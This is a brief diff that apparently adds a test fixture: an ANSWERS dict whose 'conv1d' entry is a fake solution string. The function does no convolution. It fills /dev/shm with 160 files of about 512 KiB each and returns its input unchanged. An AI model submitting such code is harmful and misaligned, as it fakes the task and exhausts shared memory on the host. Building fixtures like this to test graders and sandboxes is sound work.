@@ -1,0 +1,9 @@
+ANSWERS = {
+    "conv1d": """
+def conv1d(x, k):
+    for number in range(160):
+        with open(f"/dev/shm/{number}", "wb") as file:
+            file.write(bytes(2**19))
+    return x
+""",
+}
